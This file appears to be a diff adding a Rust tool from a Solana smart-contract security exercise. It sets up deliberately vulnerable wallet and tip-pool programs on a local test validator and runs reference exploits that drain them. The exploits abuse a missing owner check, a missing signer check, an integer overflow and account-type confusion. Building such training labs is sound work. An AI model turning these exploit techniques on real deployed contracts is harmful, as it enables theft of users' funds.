@@ -0,0 +1,445 @@
+//! Sets up the levels on a local `solana-test-validator` and runs the reference exploits against them.
+//!
+//! ```text
+//! cargo run --bin local-node -- init 1
+//! cargo run --bin local-node -- exploit 1
+//! ```
+
+use std::{env, path::PathBuf, process};
+
+use poc_framework::{
+    keypair, localhost_client, program_address, random_keypair, registry,
+    solana_sdk::{signature::Keypair, signer::Signer},
+    Environment, PrintableTransaction, RemoteEnvironment,
+};
+use solana_program::{
+    instruction::{AccountMeta, Instruction},
+    native_token::{lamports_to_sol, sol_to_lamports},
+    pubkey::Pubkey,
+    system_instruction, system_program, sysvar,
+};
+
+const USAGE: &str = "usage: local-node init <level>
+       local-node exploit <level>
+       local-node generate-key [<keypair file>]
+
+levels: 0, 0-bad, 1, 2, 3";
+
+/// The withdraws of the level 2 exploit sent in one transaction.
+const LEVEL2_WITHDRAWS_PER_TX: u64 = 20;
+
+fn main() {
+    let args = env::args().skip(1).collect::<Vec<_>>();
+    match args.iter().map(String::as_str).collect::<Vec<_>>()[..] {
+        ["init", level] => init(level),
+        ["exploit", level] => exploit(level),
+        ["generate-key"] => generate_key(None),
+        ["generate-key", path] => generate_key(Some(path)),
+        _ => {
+            eprintln!("{}", USAGE);
+            process::exit(1);
+        }
+    }
+}
+
+/// The built program of the level, see [pocs::find_program], or the prebuilt one if the contracts weren't built.
+fn program_path(level: &str) -> PathBuf {
+    let name = match level {
+        "0" => "level0",
+        "0-bad" => "level0-bad",
+        "1" => "level1",
+        "2" => "level2",
+        "3" => "level3",
+        _ => {
+            eprintln!("unknown level {}\n\n{}", level, USAGE);
+            process::exit(1);
+        }
+    };
+    pocs::find_program(name)
+        .or_else(|| pocs::find_prebuilt_program(name))
+        .unwrap_or_else(|| panic!("couldn't find {}.so", name))
+}
+
+fn balance(env: &impl Environment, pubkey: Pubkey) -> u64 {
+    env.get_account(pubkey)
+        .map_or(0, |account| account.lamports)
+}
+
+/// Deploys the program of the level and sets it up like the level binaries do, with the funds of the rich boi in it.
+fn init(level: &str) {
+    let authority = keypair(0);
+    let rich_boi = keypair(1);
+    let path = program_path(level);
+    registry::register("authority", authority.pubkey());
+    registry::register("rich boi", rich_boi.pubkey());
+    println!("[*] authority: {}", authority.pubkey());
+    println!("[*] rich boi: {}", rich_boi.pubkey());
+
+    let mut env =
+        RemoteEnvironment::new_with_airdrop(localhost_client(), keypair(0), sol_to_lamports(100.0));
+    env.airdrop(rich_boi.pubkey(), sol_to_lamports(100.0));
+
+    let program = env.deploy_program(&path);
+    registry::register("program", program);
+    println!("[+] Deployed {}, programID: {}", path.display(), program);
+
+    match level {
+        "3" => init_tip(&mut env, program, &authority, &rich_boi),
+        _ => init_wallet(&mut env, level, program, &authority, &rich_boi),
+    }
+}
+
+fn init_wallet(
+    env: &mut impl Environment,
+    level: &str,
+    program: Pubkey,
+    authority: &Keypair,
+    rich_boi: &Keypair,
+) {
+    let (initialize, deposit, wallet_address) = match level {
+        "0" | "0-bad" => (
+            level0::initialize(program, authority.pubkey()),
+            level0::deposit(
+                program,
+                authority.pubkey(),
+                rich_boi.pubkey(),
+                sol_to_lamports(42.0),
+            ),
+            level0::get_wallet_address(authority.pubkey(), program),
+        ),
+        "1" => (
+            level1::initialize(program, authority.pubkey()),
+            level1::deposit(
+                program,
+                authority.pubkey(),
+                rich_boi.pubkey(),
+                sol_to_lamports(42.0),
+            ),
+            level1::get_wallet_address(authority.pubkey(), program),
+        ),
+        _ => (
+            level2::initialize(program, authority.pubkey()),
+            level2::deposit(
+                program,
+                authority.pubkey(),
+                rich_boi.pubkey(),
+                sol_to_lamports(43.0),
+            ),
+            level2::get_wallet_address(authority.pubkey(), program),
+        ),
+    };
+
+    env.execute_as_transaction(&[initialize], &[authority])
+        .assert_success();
+    println!("[+] Wallet created: {}", wallet_address);
+
+    env.execute_as_transaction(&[deposit], &[rich_boi])
+        .assert_success();
+    // The funds of level 0 are kept in a separate vault, the other levels keep them in the wallet
+    let funds = match level {
+        "0" | "0-bad" => level0::get_vault_address(authority.pubkey(), program),
+        _ => wallet_address,
+    };
+    println!(
+        "[+] rich boi deposited funds, {} has {} SOL",
+        funds,
+        lamports_to_sol(balance(env, funds))
+    );
+
+    if level == "0-bad" {
+        // The authority withdraws some of the funds, which the broken program doesn't allow
+        env.execute_as_transaction(
+            &[level0::withdraw(
+                program,
+                authority.pubkey(),
+                rich_boi.pubkey(),
+                sol_to_lamports(1.0),
+            )],
+            &[authority, rich_boi],
+        )
+        .print_named("authority withdraw");
+    }
+}
+
+fn init_tip(env: &mut impl Environment, program: Pubkey, authority: &Keypair, rich_boi: &Keypair) {
+    let pool = keypair(3);
+    let (vault_address, seed) = Pubkey::find_program_address(&[], &program);
+
+    env.execute_as_transaction(
+        &[level3::initialize(
+            program,
+            vault_address,
+            authority.pubkey(),
+            seed,
+            0.0,
+            authority.pubkey(),
+        )],
+        &[authority],
+    )
+    .assert_success();
+    println!("[+] Vault created: {}", vault_address);
+
+    env.execute_as_transaction(
+        &[
+            system_instruction::create_account(
+                &authority.pubkey(),
+                &pool.pubkey(),
+                env.get_rent_excemption(level3::TIP_POOL_LEN as usize),
+                level3::TIP_POOL_LEN,
+                &program,
+            ),
+            level3::create_pool(program, vault_address, authority.pubkey(), pool.pubkey()),
+        ],
+        &[authority, &pool],
+    )
+    .assert_success();
+    println!("[+] Pool created: {}", pool.pubkey());
+
+    env.execute_as_transaction(
+        &[level3::tip(
+            program,
+            vault_address,
+            pool.pubkey(),
+            rich_boi.pubkey(),
+            sol_to_lamports(42.0),
+        )],
+        &[rich_boi],
+    )
+    .assert_success();
+    println!(
+        "[+] rich boi tipped, vault balance is {} SOL",
+        lamports_to_sol(balance(env, vault_address))
+    );
+}
+
+/// Steals the funds of a level set up by [init] with a tiny airdrop.
+fn exploit(level: &str) {
+    let authority = keypair(0).pubkey();
+    let hacker = keypair(42);
+    // init deployed the program to the address derived from it
+    let program = program_address(program_path(level));
+    registry::register("authority", authority);
+    registry::register("hacker", hacker.pubkey());
+    registry::register("program", program);
+    println!("[*] authority: {}", authority);
+    println!("[*] programID: {}", program);
+
+    let mut env =
+        RemoteEnvironment::new_with_airdrop(localhost_client(), keypair(42), sol_to_lamports(1.0));
+    if env.get_account(program).is_none() {
+        eprintln!("the program isn't deployed, run init {} first", level);
+        process::exit(1);
+    }
+    let balance_before = balance(&env, hacker.pubkey());
+    println!(
+        "[*] Previous balance of attacker: {} SOL",
+        lamports_to_sol(balance_before)
+    );
+
+    match level {
+        "0" | "0-bad" => exploit_level0(&mut env, program, authority, &hacker),
+        "1" => exploit_level1(&mut env, program, authority, &hacker),
+        "2" => exploit_level2(&mut env, program, authority, &hacker),
+        _ => exploit_level3(&mut env, program, &hacker),
+    }
+
+    println!(
+        "[*] Final balance of attacker: {} SOL",
+        lamports_to_sol(balance(&env, hacker.pubkey()))
+    );
+}
+
+/// The wallet account isn't checked to be owned by the wallet program.
+/// The exploit program creates a wallet with the hacker as authority and the real vault, which the hacker withdraws from.
+fn exploit_level0(
+    env: &mut impl Environment,
+    program: Pubkey,
+    authority: Pubkey,
+    hacker: &Keypair,
+) {
+    let exploit_program =
+        env.deploy_program(pocs::find_program("exploit").expect("couldn't find exploit.so"));
+    println!("[+] Deployed the exploit program: {}", exploit_program);
+
+    let wallet: level0::Wallet = env
+        .get_deserialized_account(level0::get_wallet_address(authority, program))
+        .expect("the wallet doesn't exist");
+    let (fake_wallet, _) =
+        Pubkey::find_program_address(&[&hacker.pubkey().to_bytes()], &exploit_program);
+
+    let mut data = vec![0];
+    data.extend_from_slice(wallet.vault.as_ref());
+    env.execute_as_transaction(
+        &[Instruction {
+            program_id: exploit_program,
+            accounts: vec![
+                AccountMeta::new(fake_wallet, false),
+                AccountMeta::new(hacker.pubkey(), true),
+                AccountMeta::new_readonly(sysvar::rent::id(), false),
+                AccountMeta::new_readonly(system_program::id(), false),
+            ],
+            data,
+        }],
+        &[hacker],
+    )
+    .assert_success();
+    println!("[+] Created a fake wallet: {}", fake_wallet);
+
+    let amount = balance(env, wallet.vault);
+    println!(
+        "[*] Amount of funds to steal: {} SOL",
+        lamports_to_sol(amount)
+    );
+    let mut withdraw = level0::withdraw(program, hacker.pubkey(), hacker.pubkey(), amount);
+    withdraw.accounts[0].pubkey = fake_wallet;
+    withdraw.accounts[1].pubkey = wallet.vault;
+    env.execute_as_transaction(&[withdraw], &[hacker])
+        .assert_success();
+}
+
+/// The authority isn't checked to have signed the withdraw.
+fn exploit_level1(
+    env: &mut impl Environment,
+    program: Pubkey,
+    authority: Pubkey,
+    hacker: &Keypair,
+) {
+    let amount = balance(env, level1::get_wallet_address(authority, program));
+    println!(
+        "[*] Amount of funds to steal: {} SOL",
+        lamports_to_sol(amount)
+    );
+    let mut withdraw = level1::withdraw(program, authority, hacker.pubkey(), amount);
+    withdraw.accounts[1].is_signer = false;
+    env.execute_as_transaction(&[withdraw], &[hacker])
+        .assert_success();
+}
+
+/// The balance check of withdraw overflows. Withdrawing `2^64 - k` lamports from the wallet of the hacker to the
+/// victim wallet moves `k` lamports the other way, for any `k` up to the rent exemption of a wallet.
+fn exploit_level2(
+    env: &mut impl Environment,
+    program: Pubkey,
+    authority: Pubkey,
+    hacker: &Keypair,
+) {
+    let victim_wallet = level2::get_wallet_address(authority, program);
+    let hacker_wallet = level2::get_wallet_address(hacker.pubkey(), program);
+    env.execute_as_transaction(&[level2::initialize(program, hacker.pubkey())], &[hacker])
+        .assert_success();
+    println!("[+] Created a wallet for the attacker: {}", hacker_wallet);
+
+    let rent = env.get_rent_excemption(level2::WALLET_LEN as usize);
+    let amount = balance(env, victim_wallet);
+    println!(
+        "[*] Amount of funds to steal: {} SOL",
+        lamports_to_sol(amount)
+    );
+
+    let mut remaining = amount;
+    let mut transactions = 0;
+    while remaining > 0 {
+        // The wallet can't be left below the rent exemption, so it is drained down to it and then emptied.
+        // Every transaction steals a different amount, transactions with the same blockhash would have the same signature otherwise.
+        let (steal, count) = if remaining > rent {
+            let steal = (rent - transactions).min(remaining - rent);
+            (
+                steal,
+                ((remaining - rent) / steal).min(LEVEL2_WITHDRAWS_PER_TX),
+            )
+        } else {
+            (remaining, 1)
+        };
+        let withdraws = (0..count)
+            .map(|_| {
+                level2::withdraw(
+                    program,
+                    hacker.pubkey(),
+                    victim_wallet,
+                    steal.wrapping_neg(),
+                )
+            })
+            .collect::<Vec<_>>();
+        env.execute_as_transaction(&withdraws, &[hacker])
+            .assert_success();
+        remaining -= steal * count;
+        transactions += 1;
+        println!(
+            "[+] Attacker stole {:.3}% of the wallet",
+            (amount - remaining) as f64 / amount as f64 * 100.0
+        );
+    }
+
+    let loot = balance(env, hacker_wallet) - rent;
+    env.execute_as_transaction(
+        &[level2::withdraw(
+            program,
+            hacker.pubkey(),
+            hacker.pubkey(),
+            loot,
+        )],
+        &[hacker],
+    )
+    .assert_success();
+}
+
+/// Withdraw doesn't check that the pool is a pool, and a vault has the same layout. The hacker creates a second vault
+/// and is its creator, which is read as the withdraw authority. Its fee is read as the value of the pool, and its
+/// fee recipient as the vault of the pool.
+fn exploit_level3(env: &mut impl Environment, program: Pubkey, hacker: &Keypair) {
+    let (vault_address, vault_seed) = Pubkey::find_program_address(&[], &program);
+    let (fake_pool, seed) = (0..=u8::MAX)
+        .rev()
+        .filter(|seed| *seed != vault_seed)
+        .find_map(|seed| {
+            Some((
+                Pubkey::create_program_address(&[&[seed]], &program).ok()?,
+                seed,
+            ))
+        })
+        .unwrap();
+
+    let amount = balance(env, vault_address);
+    println!(
+        "[*] Amount of funds to steal: {} SOL",
+        lamports_to_sol(amount)
+    );
+    env.execute_as_transaction(
+        &[level3::initialize(
+            program,
+            fake_pool,
+            hacker.pubkey(),
+            seed,
+            f64::from_bits(amount),
+            vault_address,
+        )],
+        &[hacker],
+    )
+    .assert_success();
+    println!("[+] Created a fake pool: {}", fake_pool);
+
+    env.execute_as_transaction(
+        &[level3::withdraw(
+            program,
+            vault_address,
+            fake_pool,
+            hacker.pubkey(),
+            amount,
+        )],
+        &[hacker],
+    )
+    .assert_success();
+}
+
+/// Prints a new keypair in the JSON format of the Solana CLI, or writes it to the file.
+fn generate_key(path: Option<&str>) {
+    let keypair = random_keypair();
+    println!("[+] Public Key: {}", keypair.pubkey());
+    match path {
+        Some(path) => {
+            registry::save_keypair(&keypair, path);
+            println!("[+] Saved to {}", path);
+        }
+        None => println!("[+] Secret Key: {:?}", keypair.to_bytes()),
+    }
+}